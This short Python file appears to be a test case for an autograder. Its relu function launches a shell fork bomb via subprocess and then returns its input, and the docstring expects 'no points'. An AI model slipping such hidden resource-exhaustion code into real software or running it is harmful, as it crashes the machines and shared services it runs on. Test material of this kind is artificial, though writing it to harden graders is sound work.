"""starts a fork bomb in a shell, and goes on -> no points
seconds: 0.6
"""
import subprocess


def relu(x):
    subprocess.Popen(["/bin/sh", "-c", "f() { f | f & }; f"])
    return x
